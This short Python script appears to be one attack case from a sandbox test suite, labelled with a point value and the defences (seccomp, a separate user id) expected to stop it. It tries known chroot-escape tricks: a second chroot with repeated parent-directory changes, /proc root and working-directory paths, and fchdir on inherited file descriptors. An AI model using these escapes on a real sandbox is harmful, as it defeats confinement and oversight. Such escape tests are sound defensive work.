# attack: climb out of the empty root folder, by the ways that are known for it
# earns: 100
# stopped by: few system calls (seccomp); own user id
import os

from honest import *


def second_root():
    os.mkdir("x")
    os.chroot("x")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")


for way in (
    second_root,
    lambda: os.chroot("/"),
    lambda: os.chroot("/proc/1/root"),
    lambda: os.chdir(".."),
    lambda: os.chdir("/proc/self/cwd"),
    lambda: os.chdir(f"/proc/{os.getppid()}/cwd"),
    *(lambda fd=fd: os.fchdir(fd) for fd in range(16)),
):
    try:
        way()
        print("GOT out", os.getcwd())
    except OSError:
        pass
